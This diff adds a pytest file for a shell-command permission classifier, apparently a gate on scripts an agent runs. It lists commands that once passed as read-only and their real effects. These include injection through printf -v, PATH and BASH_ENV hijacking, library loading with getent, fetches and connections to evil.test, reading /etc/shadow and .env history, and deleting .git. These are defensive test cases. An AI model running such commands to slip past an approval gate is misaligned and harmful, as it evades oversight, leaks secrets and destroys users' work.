@@ -1,0 +1,197 @@
+"""Lines that once got past the gate, each with what it really did; and their harmless neighbours, which must pass."""
+
+import os
+import stat
+from importlib.resources import files
+from pathlib import Path
+
+import pytest
+
+from policy.action import RunScript
+from policy.assessment import Assessment
+from policy.classify import classify
+from policy.facts import Facts, Kind, PathFact
+from policy.profile_file import parse_profile
+from policy.rules import RuleBook, RuleError, parse_rules
+from policy.tier import Tier
+
+BOOK = RuleBook.from_files(
+    {item.name: item.read_text() for item in (files("policy") / "commands").iterdir() if item.name.endswith(".toml")}
+)
+PROFILE = parse_profile((files("profiles") / "default.toml").read_text(), "default.toml")
+
+
+def look(path: str) -> PathFact:
+    real = os.path.realpath(path)
+    try:
+        mode = os.stat(real).st_mode
+    except (OSError, ValueError):
+        return PathFact(real, Kind.MISSING)
+    return PathFact(real, Kind.FOLDER if stat.S_ISDIR(mode) else Kind.FILE if stat.S_ISREG(mode) else Kind.OTHER)
+
+
+@pytest.fixture(scope="module")
+def facts(tmp_path_factory: pytest.TempPathFactory) -> Facts:
+    """A workspace with a repository's folders, and an empty home beside it."""
+    top = Path(os.path.realpath(tmp_path_factory.mktemp("machine")))
+    for folder in ("work/.git/hooks", "work/.vscode", "work/src/.git", "work/docs", "home"):
+        (top / folder).mkdir(parents=True)
+    for name in ("a.txt", "b.txt", ".git/HEAD"):
+        (top / "work" / name).write_text("x\n")
+    return Facts(str(top / "work"), str(top / "home"), ("/usr/bin",), PROFILE.system, (), look, lambda name: None)
+
+
+def judge(script: str, facts: Facts) -> Assessment:
+    return classify(RunScript(script, facts.workspace), facts, BOOK, PROFILE)
+
+
+# fmt: off
+NOT_A_READ = [
+    # a word that becomes several moves the others to other places
+    ("uniq n*.txt",                                      "the second match was overwritten"),
+    ("xxd n*.txt",                                       "the second match was overwritten"),
+    ("find . -name '[ab].txt' -exec uniq {} +",          "{} + is many words: b.txt was overwritten"),
+    ("find . -execdir uniq {} +",                        "so it is beside -execdir"),
+    ("date -d 0*",                                       "the second match would set the clock"),
+    ("uniq -f 1* a.txt",                                 "a second match takes the place of the input"),
+    ("ls | xargs -I{} -n2 uniq",                         "-n after -I cancels it"),
+    ("ls | xargs -I{} -L1 uniq a.txt",                   "so does -L"),
+    ("ls | xargs -i -l uniq a.txt",                      "and -l"),
+    ("ls | xargs --replace={} --max-lines=1 uniq a.txt", "and their long names"),
+    # output that was taken for one harmless word
+    ("uniq $(git rev-parse a.txt b.txt)",                "two names of files: b.txt was overwritten"),
+    ("uniq $(git rev-parse -- a.txt b.txt)",             "two names of files"),
+    ("git diff $(git rev-list --oneline -1 HEAD)",       "the subject of a commit was --output=PWNED"),
+    ("git diff $(git rev-list --pretty=oneline -1 HEAD)", "the same by another flag"),
+    ("git diff $(git rev-list --objects HEAD)",          "names of files are printed beside the ids"),
+    ("git diff $(git rev-list HEAD)",                    "as many words as there are commits"),
+    ("git diff $(git describe --always --dirty=' --output=PWNED')", "the mark is any text"),
+    ("uniq $(git describe --always HEAD HEAD~1)",        "two words"),
+    ("uniq $(git merge-base --all a b)",                 "as many words as there are bases"),
+    ("uniq $(wc -l a.txt)",                              "wc prints the name too"),
+    ("cd $x && sort $(pwd)",                             "a folder's name may hold ` -o`"),
+    # names of variables that were taken for something else
+    ("printf -v x -v 'a[$(touch PWNED)]' y",             "the second -v was evaluated"),
+    ("printf -vx -v'a[$(touch PWNED)]' y",               "so it was in one word"),
+    ("read -r PATH <<< .; ls",                           "-r took PATH for its value, and ./ls ran"),
+    ("read -ra PATH <<< .; ls",                          "an array of that name is the variable too"),
+    ("read -p x -a BASH_ENV <<< ./evil.sh; bash -c ls",  "whatever stands before it"),
+    # flags and operands with more meaning than was thought
+    ("getent -s x/evil passwd",                          "libnss_x/evil.so.2 was loaded"),
+    ("nm @evil.opt",                                     "flags out of a file: --plugin was loaded"),
+    ("objdump @evil.opt",                                "the same of its sisters"),
+    ("git --help log",                                   "ran the viewer that the settings named"),
+    ("git -h log",                                       "so did this"),
+    ("ip link s eth0 down",                              "`s` is `set` before it is `show`"),
+    ("ip l s eth0 down",                                 "so it is here"),
+    ("crontab",                                          "without a word it installs its input"),
+    ("crontab -u root",                                  "for whomever"),
+    ("rpm -i x.rpm",                                     "installs, where -q is not given"),
+    ("rpm -q --qf '%{SUMMARY:expand}' bash",             "a package's own text becomes a macro that runs"),
+    ("sar -o out 1 1",                                   "writes"),
+    ("pidstat -e ./evil.sh",                             "runs"),
+    ("sensors -s",                                       "sets"),
+    ("nvidia-smi -r",                                    "resets"),
+    ("lspci -q",                                         "asks a name server"),
+    ("blkid -w out",                                     "writes"),
+    ("lastlog $X",                                       "-C clears"),
+    ("file -C -m list.txt",                              "writes a compiled list"),
+    ("file $X",                                          "may become -C"),
+    ("diff3 $X a b c",                                   "--diff-program runs"),
+    ("zstdcat $X",                                       "-o writes"),
+    ("zless '+!touch PWNED' a.gz",                       "it is less"),
+    ("xmllint http://evil.test/x.xml",                   "fetches"),
+    ("openssl x509 -in http://evil.test/c -noout",       "fetches"),
+    ("rpm -qp https://evil.test/x.rpm",                  "fetches"),
+    ("awk 1 /inet/tcp/0/evil.test/80",                   "gawk connects"),
+    ("awk 'BEGIN{ARGV[1]=\"/etc/shadow\";ARGC=2}1'",     "reads what nobody named"),
+    ("bash -c 'cat \"$1\"' _ /etc/shadow",               "the argument is what it reads"),
+    ("git log -L1,5:.env",                               "the past of a secret file"),
+    # "only prints its version", which it does not
+    ("echo '!touch PWNED' | ed -v",                      "ran it"),
+    ("echo ':!touch PWNED' | ex -v",                     "ran it"),
+    ("echo 'exec touch PWNED' | tclsh --version",        "ran it"),
+    ("echo 'exec touch PWNED' | tclsh -v",               "ran it"),
+    ("as -v",                                            "wrote a.out"),
+    ("ninja -v",                                         "built"),
+    ("ctest -v",                                         "ran the tests"),
+    ("ghci -v",                                          "runs its input"),
+    ("erl --version",                                    "runs its input"),
+    ("ftp -V",                                           "runs its input, `!` included"),
+    ("nslookup --version",                               "asks for what its input says"),
+    ("ssh-keygen -h",                                    "makes a key"),
+]
+
+DANGEROUS = [
+    ("rm -rf .git*",                                     "all versions are gone"),
+    ("rm -rf .gi?",                                      "all versions are gone"),
+    ("rm -rf ./.g*t",                                    "all versions are gone"),
+    ("rm -rf */.git",                                    "those of a repository inside this one"),
+    ("rm -rf .git/objects",                              "all versions are gone"),
+    ("rm .git/HEAD",                                     "and with them the way to them"),
+    ("mv .gi* src/",                                     "moved is gone, too"),
+    ("mv .vsc* x",                                       "what an editor runs"),
+    ("cp -t .gi?/hooks a.txt",                           "what git runs"),
+    ("tee .gi*/config < a.txt",                          "what git obeys"),
+    ("chmod -R a+w .gi*",                                "what git obeys"),
+    ("find . -type f -delete",                           "a type is true of nearly everything"),
+    ("find . -name '*' -delete",                         "so is this name"),
+    ("find . -not -name x -delete",                      "all but one"),
+    ("find . -name x -o -delete",                        "or everything else"),
+    ("find . ! \\( -name x \\) -delete",                 "all but one"),
+    ("find . -path './.git/*' -delete",                  "all versions"),
+    ("git stash clear",                                  "cannot be undone"),
+]
+
+HARMLESS = [
+    ("uniq a.txt",                                       Tier.READ,  "one input"),
+    ("sort src/*.txt",                                   Tier.READ,  "more inputs are inputs"),
+    ("sed -n 1p src/*.txt",                              Tier.READ,  "the program comes first"),
+    ("find . -name '*.py' -exec wc -l {} +",             Tier.READ,  "many inputs"),
+    ("find . -name '*.py' -exec sort {} +",              Tier.READ,  "none of which starts with a dash"),
+    ("ls | xargs -I{} -n1 cat {}",                       Tier.READ,  "harmless either way"),
+    ("git log $(git describe --tags --abbrev=0)..HEAD",  Tier.READ,  "one name"),
+    ("git describe --tags $(git rev-list --tags --max-count=1)", Tier.READ, "one id"),
+    ("git diff $(git merge-base HEAD main)",             Tier.READ,  "one id"),
+    ("git show $(git rev-parse --short HEAD)",           Tier.READ,  "one id"),
+    ("git config user.name",                             Tier.READ,  "a key alone is shown"),
+    ("printf -v x %s y; echo $x",                        Tier.READ,  "a plain name"),
+    ("read -r line < a.txt; echo \"$line\"",             Tier.READ,  "a plain name"),
+    ("ip a s",                                           Tier.READ,  "here it is `show`"),
+    ("crontab -l",                                       Tier.READ,  "lists"),
+    ("rpm -qi bash",                                     Tier.READ,  "shows"),
+    ("gzip -dc a.gz | head",                             Tier.READ,  "to its output"),
+    ("unzip -l a.zip",                                   Tier.READ,  "lists"),
+    ("git clean -nd",                                    Tier.READ,  "only says what it would do"),
+    ("git --version",                                    Tier.READ,  "prints a text"),
+    ("rm -f .git/index.lock",                            Tier.WRITE, "a lock that was left behind"),
+    ("rm -rf .tox*",                                     Tier.WRITE, "no name that starts like that is locked"),
+    ("find . -name '*.pyc' -delete",                     Tier.WRITE, "a name picks"),
+    ("find . \\( -name '*.pyc' -o -name '*.pyo' \\) -delete", Tier.WRITE, "two names pick"),
+    ("find . -name '*.pyc' -not -path './venv/*' -delete", Tier.WRITE, "leaving out is no widening"),
+    ("find src -type f -delete",                         Tier.WRITE, "a folder that was named"),
+    ("cp *.txt docs/",                                   Tier.WRITE, "the last one stays the last"),
+    ("yarn test",                                        Tier.EXECUTE, "a script of the project"),
+]
+# fmt: on
+
+
+@pytest.mark.parametrize(("script", "why"), NOT_A_READ)
+def test_what_got_past_the_gate(script: str, why: str, facts: Facts) -> None:
+    assert max(judge(script, facts).tiers) > Tier.READ, why
+
+
+@pytest.mark.parametrize(("script", "why"), DANGEROUS)
+def test_what_cannot_be_undone(script: str, why: str, facts: Facts) -> None:
+    assert max(judge(script, facts).tiers) >= Tier.DANGEROUS, why
+
+
+@pytest.mark.parametrize(("script", "tier", "why"), HARMLESS)
+def test_their_harmless_neighbours(script: str, tier: Tier, why: str, facts: Facts) -> None:
+    assert max(judge(script, facts).tiers) is tier, why
+
+
+def test_a_cluster_of_flags_takes_no_value() -> None:
+    """`-ra=` would make `-r` swallow the word after it, and what that names would be judged by nobody."""
+    with pytest.raises(RuleError, match="every letter"):
+        parse_rules('[x]\nwhy = "reads"\nflags = "-ra="\n', "x.toml")
